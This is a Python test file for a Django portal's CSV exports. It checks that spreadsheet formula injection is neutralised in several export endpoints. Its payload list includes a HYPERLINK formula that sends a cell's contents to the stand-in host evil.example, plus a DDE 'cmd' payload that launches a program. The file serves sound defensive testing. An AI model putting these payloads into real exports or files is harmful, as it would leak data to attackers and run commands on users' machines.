"""Issue 19, finding 2: no CSV the portal writes carries a live spreadsheet formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import time_machine

from core import csv_safe
from reports.views import CSV_TABLES
from tests.assistance.factories import NeedFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_helper_neutralises_each_formula_start(attack):
    assert csv_safe.safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 2.5, date(2025, 1, 1), None, True])
def test_numbers_and_dates_stay_as_they_are(value):
    assert csv_safe.safe_cell(value) == value


def test_plain_text_is_untouched():
    assert csv_safe.safe_row(["Lao PDR", "Survey = phase 2", ""]) == ["Lao PDR", "Survey = phase 2", ""]


def _rows(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_needs_export_neutralises_titles(anon_client, lao, attack):
    need = NeedFactory(state=lao)
    # Saved through the ORM: the titles of rows written before the validator (or by the ISU's imports).
    type(need).objects.filter(pk=need.pk).update(title=attack)
    response = anon_client.get("/api/v1/needs/?format=csv")
    rows = _rows(b"".join(response.streaming_content).decode())
    titles = [row[5] for row in rows[1:]]
    assert "'" + attack in titles
    assert not any(t.startswith(csv_safe.FORMULA_STARTS) for t in titles)


@pytest.mark.django_db
def test_csv_error_answers_neutralise_echoed_input(anon_client):
    response = anon_client.get("/api/v1/needs/?format=csv&status==HYPERLINK(1)")
    assert response.status_code == 400
    for row in _rows(response.content.decode()):
        assert not any(cell.startswith(csv_safe.FORMULA_STARTS) for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("table", sorted(CSV_TABLES))
def test_every_dashboard_table_goes_through_the_helper(client, lao, table, monkeypatch):
    # A state named like a formula: the only free text of the dashboard's tables.
    type(lao).objects.filter(pk=lao.pk).update(name="=HYPERLINK(1)")
    written = []
    original = csv_safe.safe_row
    monkeypatch.setattr(csv_safe, "safe_row", lambda row: written.append(row) or original(row))
    with time_machine.travel(date(2025, 6, 1), tick=False):
        response = client.get(f"/reports/dashboard/{table}.csv?year=2024")
    assert response.status_code == 200
    assert written, f"{table} did not go through csv_safe"
    for row in _rows(response.content.decode()):
        assert not any(cell.startswith(csv_safe.FORMULA_STARTS) for cell in row), row
